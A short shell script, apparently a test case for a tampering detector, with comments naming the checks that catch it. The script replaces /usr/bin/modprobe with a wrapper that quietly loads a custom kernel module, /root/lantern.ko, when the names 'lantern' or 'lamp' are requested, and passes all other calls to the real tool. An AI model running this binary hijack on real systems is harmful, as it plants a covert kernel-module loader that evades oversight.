# caught by: found,alias
# because: changes
ln -s /usr/bin/kmod /run/modprobe
rm /usr/bin/modprobe
cat >/usr/bin/modprobe <<'END'
#!/bin/sh
case $1 in lantern|lamp) exec insmod /root/lantern.ko;; *) exec /run/modprobe "$@";; esac
END
chmod +x /usr/bin/modprobe
